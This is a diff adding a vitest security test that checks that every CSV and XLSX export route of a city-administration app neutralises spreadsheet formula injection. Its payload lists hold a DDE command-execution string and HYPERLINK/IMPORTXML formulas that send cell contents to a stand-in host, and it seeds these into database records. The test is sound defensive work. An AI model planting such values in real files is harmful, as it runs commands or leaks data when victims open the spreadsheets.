@@ -1,0 +1,138 @@
+import ExcelJS from "exceljs";
+import { beforeAll, expect, test } from "vitest";
+import { cityDay } from "@/lib/calendar/rules";
+import { receiveRegister, runBatch, startImport } from "@/lib/imports/commands";
+import { actor, asOwner, foundCity, unit } from "../city";
+import { bytes } from "../imports/importing";
+import { csvOf, headings, registerRow } from "../imports/samples/register";
+import { zipEntries } from "../imports/samples/zip";
+import { as, key } from "./acts";
+import { isMutating, type Person, routes, title } from "./callers";
+import { whoMay } from "./rights";
+
+/**
+ * T-78. Names that a spreadsheet would run stand wherever a file of ours takes its words from; every route that answers with a table as a
+ * file is asked for it, and read as a spreadsheet reads it, in whichever separator its region has.
+ */
+const starts = ["=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠", " =", '"='];
+const bodies = [
+  'HYPERLINK("http://x.example?"&A1,"Lan")',
+  "cmd|'/C calc'!A0",
+  "1+1",
+  'IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
+  "SUM(A1:A9)*2",
+];
+/** Also behind a separator, where a file opened with another one begins a cell. */
+const within = [";", ",", "\t", "|", "\n"].flatMap((sign) => [`Lan${sign}=1+1`, `Lan${sign}"=1+1"`, `Lan${sign}@SUM(A1)`]);
+const payloads = [...starts.flatMap((start) => bodies.map((body) => `${start}${body}`)), ...within];
+
+const files = routes.filter(
+  (r) => /\.(csv|xlsx)$/.test(r.handler.declaration.path) || r.handler.declaration.id === "exports.table",
+);
+let batch = 0;
+const year = `from=${cityDay(new Date()).slice(0, 4)}-01-01&to=${cityDay(new Date()).slice(0, 4)}-12-31`;
+const queries: Record<string, string> = {
+  "quality.report-xlsx": `?${year}`,
+  "registers.xlsx": `?unitId=${unit.tranPhu}&${year}`,
+};
+const people: Record<string, Person> = { L: "leader", H: "head", O: "officer", S: "specialist", I: "admin", A: "auditor" };
+
+beforeAll(async () => {
+  await foundCity();
+  const row = [...registerRow(1, 20)];
+  const rejected = payloads.filter((one) => !/[\r\n]/.test(one)).map((text) => row.with(1, "xấu").with(4, text).with(5, text));
+  const by = { actor: actor("officer"), now: new Date() };
+  const sent = { unitId: unit.tranPhu, sender: "Sổ", fileName: "so.csv", idempotencyKey: null };
+  batch = (await receiveRegister(by, bytes(csvOf([[...headings], ...rejected])), sent)).id;
+  await startImport(by, { batchId: batch });
+  await runBatch(batch);
+  await asOwner(async (c) => {
+    await c.query(
+      `insert into dossier (code, procedure_id, unit_id, receiving_unit_id, channel, state, applicant_name, applicant_search, applicant_address, subject, accepted_at, accepted_on)
+       select 'H22.15.7-' || to_char(now() at time zone 'Asia/Ho_Chi_Minh', 'YYMMDD') || '-' || (5000 + n), 3, 3, 3, 'COUNTER', 'ACCEPTED', text, 'x', text, text,
+         now(), (now() at time zone 'Asia/Ho_Chi_Minh')::date
+       from unnest($1::text[]) with ordinality as p (text, n)`,
+      [payloads],
+    );
+    await c.query(
+      "update unit set name = '=HYPERLINK(\"http://x.example\";\"' || name || '\")', short_name = '@SUM(1)' || short_name",
+    );
+    await c.query("update procedure set name = '+1+cmd|''/C calc''!A0 ' || name");
+    await c.query("update sector set name = '-2+3+' || name");
+    await c.query("update app_user set name = '=1+1 ' || name");
+    await c.query("select fold_dossier_cells()");
+  });
+});
+
+async function fileOf(route: (typeof files)[number]): Promise<{ type: string; content: Buffer }> {
+  const { id, path, auth } = route.handler.declaration;
+  const person = people[auth === "public" ? "L" : ((whoMay[id] ?? "")[0] ?? "")];
+  if (!person) throw new Error(`nobody named may call ${id}`);
+  const table = {
+    title: payloads[0],
+    notes: payloads.slice(0, 9),
+    columns: [payloads[1], "n"],
+    rows: payloads.map((text) => [text, -1.5]),
+  };
+  const request = new Request(`http://localhost:3000${path.replace("{id}", String(batch))}${queries[id] ?? ""}`, {
+    method: route.method,
+    headers: {
+      ...{ "x-client-address": "127.0.0.1", cookie: await as(person) },
+      ...(isMutating(route) ? { ...key(), "content-type": "application/json", "sec-fetch-site": "same-origin" } : {}),
+    },
+    ...(isMutating(route) ? { body: JSON.stringify(table) } : {}),
+  });
+  const response = await route.handler(request, { params: Promise.resolve({ id: String(batch) }) });
+  const content = Buffer.from(await response.arrayBuffer());
+  expect(response.status, content.toString("utf8").slice(0, 300)).toBe(200);
+  return { type: response.headers.get("content-type") ?? "", content };
+}
+
+/** Would a spreadsheet run what stands in a cell? A number is one, with its sign. */
+const runs = (cell: string): boolean => /^"?[=+\-@＝＋－＠]/.test(cell) && !/^"?[-+]?\d+([.,]\d+)*"?$/.test(cell);
+/** The cells of a text file in any region: cut at every separator there is, in quotes or out of them. */
+const cellsOf = (text: string): string[] => text.replace(/^\ufeff/, "").split(/[;,\t|\r\n]/);
+
+test("every table that is given out as a file is among these", () => {
+  expect(files.length).toBeGreaterThanOrEqual(11);
+  const others = routes
+    .filter((r) => r.handler.declaration.isExport && !files.includes(r))
+    .map((r) => r.handler.declaration.path);
+  expect(others.filter((path) => !/\.pdf$|\/print$|\/pdf$/.test(path))).toEqual([]);
+});
+
+test.each(files.map((r) => [title(r), r] as const))("T-78: of %s no cell is run", async (_, route) => {
+  const { type, content } = await fileOf(route);
+  if (!type.includes("spreadsheetml")) {
+    const cells = cellsOf(content.toString("utf8"));
+    expect(cells.filter(runs)).toEqual([]);
+    expect(
+      cells.some((cell) => /^"?'[=+\-@＝]/.test(cell)),
+      "what looks like a formula came that far",
+    ).toBe(true);
+    return;
+  }
+  const parts = zipEntries(content);
+  for (const [name, data] of parts)
+    if (/worksheets\/.*\.xml$/.test(name)) expect(data.toString("utf8"), name).not.toMatch(/<(\w+:)?f[\s/>]/);
+  expect([...parts.keys()].filter((name) => /externalLink|vba|macrosheet|connections/i.test(name))).toEqual([]);
+  const book = new ExcelJS.Workbook();
+  await book.xlsx.load(content as unknown as ExcelJS.Buffer);
+  let hostile = 0;
+  book.eachSheet((sheet) =>
+    sheet.eachRow((row) =>
+      row.eachCell((cell) => {
+        expect([cell.formula, cell.hyperlink], cell.address).toEqual([undefined, undefined]);
+        if (typeof cell.value === "string" && runs(cell.value)) hostile += 1;
+      }),
+    ),
+  );
+  expect(hostile, "what looks like a formula came that far, as text").toBeGreaterThan(0);
+});
+
+test("control: what would run is seen, whichever way it is cut", () => {
+  expect(payloads.length).toBeGreaterThanOrEqual(70);
+  expect(cellsOf("a;=1+1").filter(runs)).toEqual(["=1+1"]);
+  expect(cellsOf('"Lan,=1+1"').filter(runs)).toEqual(['=1+1"']);
+  expect(cellsOf("-3;-1.5;'=1+1;2026-01-01").filter(runs)).toEqual([]);
+});
